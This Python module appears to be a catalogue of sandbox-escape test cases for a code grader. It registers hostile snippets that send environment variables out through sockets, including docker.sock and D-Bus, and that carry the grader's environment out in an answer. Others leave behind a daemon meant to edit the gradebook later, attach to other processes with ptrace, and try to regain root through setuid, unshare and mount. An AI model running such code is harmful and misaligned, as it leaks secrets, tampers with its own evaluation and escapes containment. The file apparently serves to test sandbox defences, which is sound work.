"""Network, sockets, the environment, other processes, daemons."""

from grader.attacks import answer, code

code(
    "outside",
    "network",
    "Send the environment to another host, by every family of sockets.",
    """
import os, socket, urllib.request
text = repr(dict(os.environ)).encode()
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
    for address in (("127.0.0.1", 8888), ("127.0.0.1", 22), "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
        try:
            with socket.socket(family) as s:
                s.settimeout(0.2); s.connect(address); s.sendall(text)
        except Exception:
            pass
urllib.request.urlopen("http://localhost:8888", timeout=0.2).read()
""",
)

answer(
    "outside",
    "environment",
    "Carry the grader's environment and arguments out in the answer.",
    """
import os, sys
def {name}(*arguments, **more):
    return repr(dict(os.environ)) + repr(sys.argv) + repr(getattr(sys, "orig_argv", ""))
""",
)

code(
    "outside",
    "daemon",
    "Leave a daemon behind that edits the gradebook later.",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.1)
            open("/tmp/pwned", "a").write("alive")
    os._exit(0)
""",
)

code(
    "outside",
    "trace_other_processes",
    "Attach to other processes and write into them.",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 400):
    if libc.ptrace(16, pid, 0, 0) == 0 or libc.process_vm_writev(pid, 0, 0, 0, 0, 0) == 0:
        print("attached to", pid)
""",
)

code(
    "outside",
    "become_root",
    "Take back rights: user ids, name spaces, mounts, another root.",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/"), lambda: os.mknod("/tmp/sda", 0o60666, 0x800)):
    try:
        call()
    except OSError:
        pass
libc.unshare(0x10000000 | 0x20000)
libc.mount(b"none", b"/", b"tmpfs", 0, 0)
libc.mount(b"/", b"/", b"", 32 | 4096, 0)
open("/usr/lib/pwned", "w").write("x")
""",
)
